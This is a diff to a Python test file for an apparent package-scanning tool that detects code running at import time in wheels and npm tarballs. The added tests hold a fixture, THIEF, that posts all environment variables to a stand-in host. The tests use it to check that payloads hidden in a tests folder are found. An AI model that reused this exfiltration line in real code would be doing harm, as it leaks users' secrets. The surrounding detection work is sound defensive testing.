@@ -119,7 +119,9 @@ def test_a_script_is_read_by_its_language(path: str) -> None:
 def test_javascript_of_a_python_package_is_read_only_when_small() -> None:
     """Large JavaScript in a wheel is an asset for browsers; in an npm package it is the package."""
     files = {"garden/small.js": SCRIPT, "garden/large.js": padded(SCRIPT, ASSET_BYTES + 1)}
-    assert set(code_of(files)) == {"garden/small.js"}
+    facts, gaps = facts_of(files)
+    assert {one.path for one in facts.code if one.calls} == {"garden/small.js"}
+    assert (GapReason.MEMBER_TOO_LARGE, "garden/large.js", False) in gaps
     read = code_of({f"package/{path}": text for path, text in files.items()}, ArtifactKind.NPM_TARBALL)
     assert set(read) == {"package/garden/small.js", "package/garden/large.js"}
     assert {call.moment for one in read.values() for call in one.calls} == {Moment.IMPORT}
@@ -204,3 +206,23 @@ def test_an_empty_package_has_no_facts_and_lacks_metadata() -> None:
     """Nothing in, nothing out, and what every package has is missed."""
     facts, gaps = facts_of({})
     assert (facts.code, facts.binaries, facts.hints, gaps) == ((), (), {}, {NO_METADATA})
+
+
+THIEF = "import os, requests\nrequests.post('https://collector.example/api/webhooks/1/x', json=dict(os.environ))\n"
+
+
+def test_code_among_tests_is_read_when_the_package_imports_it() -> None:
+    """A payload that hides in a folder of tests is found through the line that reaches into it."""
+    files = {"garden/__init__.py": "from .tests import core\n", "garden/tests/core.py": THIEF}
+    read = code_of(files)["garden/tests/core.py"]
+    assert {call.moment for call in read.calls if call.name == "requests.post"} == {Moment.IMPORT}
+
+
+def test_code_among_tests_is_left_alone_when_nothing_imports_it() -> None:
+    """What nothing runs says nothing."""
+    assert code_of({"garden/__init__.py": "x = 1\n", "garden/tests/core.py": THIEF}) == {}
+
+
+def test_a_package_that_is_called_demo_is_a_package() -> None:
+    """What stands at the top of a wheel can be imported, whatever its name."""
+    assert "requests.post" in called(code_of({"demo/__init__.py": THIEF})["demo/__init__.py"])
